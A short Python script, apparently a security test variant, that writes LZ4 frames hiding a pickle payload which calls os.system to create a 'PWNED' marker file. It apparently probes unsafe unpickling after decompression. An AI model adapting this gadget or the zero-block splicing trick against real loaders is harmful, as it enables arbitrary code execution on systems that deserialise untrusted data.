# Variant: a compressed block of one byte 0x00 (a token with no literals) decodes to 0 bytes.
import lz4.frame, struct, sys
out = sys.argv[1]
hdr = lz4.frame.compress(b"", block_linked=False, content_checksum=False, store_size=False)[:7]
def ublock(b): return struct.pack("<I", 0x80000000 | len(b)) + b
frame1 = hdr + ublock(b"\x80\x02") + struct.pack("<I", 1) + b"\x00" + ublock(b"cos\nsystem\n(Vtouch /tmp/r36b/PWNED_lz4zero\ntR0") + b"\0\0\0\0"
frame2 = hdr + ublock(b"N.") + b"\0\0\0\0"
open(out, "wb").write(frame1 + frame2)
